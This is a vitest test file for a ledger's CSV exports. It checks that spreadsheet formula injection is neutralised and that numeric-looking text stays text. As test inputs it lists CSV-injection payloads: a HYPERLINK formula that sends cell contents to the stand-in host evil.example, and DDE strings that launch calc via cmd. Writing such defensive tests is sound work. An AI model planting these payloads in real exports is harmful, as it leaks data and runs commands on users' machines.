import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { statementToCsv } from "../src/ledger/statement.js";
import { csvCell, csvTextCell } from "../src/reports/csv-cell.js";
import { emptyFigures, reconciliationToCsv, rejudgingOf } from "../src/reports/reconciliation.js";
import { statementWithMemo } from "./support/statement-fixtures.js";

/** Every cell a spreadsheet would run as a formula (the check a finance team's tool makes). */
const formulaCells = (csv: string) =>
  (parse(csv) as string[][])
    .flat()
    .filter((c) => /^(?:[\t\r]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20])/.test(c))
    .filter((c) => !/^-?\d+(\.\d+)?$/.test(c));

describe("CSV cells", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A2&B2,"x")'],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0"],
    ["+1+cmd|' /C calc'!A0"],
  ])("writes the job id a memo names (%s) as text in the statement CSV", (jobId) => {
    const csv = statementToCsv(statementWithMemo(jobId));
    expect(formulaCells(csv)).toEqual([]);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows[1]?.jobId).toBe(`'${jobId}`);
    // Amounts stay numbers: a negative amount is not a formula.
    expect(rows[1]?.amountUnits).toBe("-1000");
  });

  it.each([
    ["  =1+1", "'  =1+1"],
    ["\t1", "'\t1"],
    ["\r1", "'\r1"],
    ["\uff1dHYPERLINK()", "'\uff1dHYPERLINK()"],
    ["\uff0b1", "'\uff0b1"],
    ["\uff0d1", "'\uff0d1"],
    ["\uff20SUM(1)", "'\uff20SUM(1)"],
    ["-12", "-12"],
    ["-0.25", "-0.25"],
    ["qwen3-8b", "qwen3-8b"],
  ])("writes the text %j as the cell %j", (text, cell) => {
    expect(parse(csvCell(text))).toEqual([[cell]]);
  });

  it("quotes a cell holding a semicolon, which some locales split on", () => {
    expect(csvCell("a;b")).toBe('"a;b"');
    expect(csvCell('say "hi", then\nbye')).toBe('"say ""hi"", then\nbye"');
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(null)).toBe("");
  });

  // A key fingerprint of 16 decimal digits (1 in 1,800 keys) opened as 1.23457E+15 in a
  // spreadsheet, its last digit gone, so the finance team's rows matched no key.
  it.each([
    ["1234567890123456", "'1234567890123456"],
    ["0012345678901234", "'0012345678901234"],
    ["1234567890123e45", "'1234567890123e45"],
    ["-12", "'-12"],
    ["1,234.5", "'1,234.5"],
    ["12%", "'12%"],
    ["da445dc9aa140150", "da445dc9aa140150"],
    ["qwen3-8b", "qwen3-8b"],
    ["=1+1", "'=1+1"],
  ])("writes the text cell %j, which a spreadsheet would read as a number, as %j", (text, cell) => {
    expect(parse(csvTextCell(text))).toEqual([[cell]]);
  });

  it("keeps a group of digits text in the reconciliation CSV, and money cells numbers", () => {
    const figures = emptyFigures();
    figures.jobs = 1;
    figures.chargedUnits = 123_456n;
    const csv = reconciliationToCsv({
      from: 0,
      to: 86_400_000,
      groupBy: "key",
      timeZone: "UTC",
      generatedAt: 86_400_000,
      dataCompleteUntil: 86_400_000,
      groups: [{ group: "1234567890123456", ...figures }],
      totals: figures,
      rejudging: rejudgingOf([]),
    });
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows[0]?.group).toBe("'1234567890123456");
    expect(rows[0]?.chargedUnits).toBe("123456");
    expect(rows[0]?.chargedUsdc).toBe("0.123456");
  });

  // Ingest takes any model name without control characters: `3-8` opened as 8 March, `1/2` as
  // 2 January, `1:30` as a time, `true` as TRUE, no longer the group the JSON names.
  it("keeps a group a spreadsheet reads as a date, a time or a boolean text; a day stays a date", () => {
    const figures = { ...emptyFigures(), jobs: 1 };
    const csv = (groupBy: "model" | "day", groups: string[]) =>
      parse(
        reconciliationToCsv({
          from: 0,
          to: 86_400_000,
          groupBy,
          timeZone: "UTC",
          generatedAt: 86_400_000,
          dataCompleteUntil: 86_400_000,
          groups: groups.map((group) => ({ group, ...figures })),
          totals: figures,
          rejudging: rejudgingOf([]),
        }),
        { columns: true },
      ) as Record<string, string>[];
    const models = ["3-8", "1/2", "1:30", "3 pm", "Jan-5", "true", "qwen3-8b", "llama-3.3-70b"];
    expect(
      csv("model", models)
        .filter((r) => r.kind === "group")
        .map((r) => r.group),
    ).toEqual(["'3-8", "'1/2", "'1:30", "'3 pm", "'Jan-5", "'true", "qwen3-8b", "llama-3.3-70b"]);
    expect(csv("day", ["2026-11-01"])[0]?.group).toBe("2026-11-01");
  });

  it("keeps a memo's job id of digits text in the statement CSV", () => {
    const rows = parse(statementToCsv(statementWithMemo("4096")), { columns: true }) as Record<
      string,
      string
    >[];
    expect(rows[1]?.jobId).toBe("'4096");
    expect(rows[1]?.amountUnits).toBe("-1000");
  });
});

// A statement CSV saved for the month held balances without the period they were for.
describe("the statement CSV says what it covers", () => {
  it("ends every row, findings included, with from, to and generatedAt", () => {
    const statement = statementWithMemo("job_1");
    const csv = statementToCsv(statement);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.row)).toEqual(["vault", "unreceipted_debit"]);
    for (const row of rows) {
      expect(row).toMatchObject({
        from: "1970-01-01T00:00:00.000Z",
        to: "1970-01-01T00:16:40.000Z",
        generatedAt: "1970-01-01T00:16:40.000Z",
      });
    }
    // The findings keep their columns: the period comes after the memo.
    expect(rows[1]?.memo).toBe("decentral:escrow:job_1");
  });
});
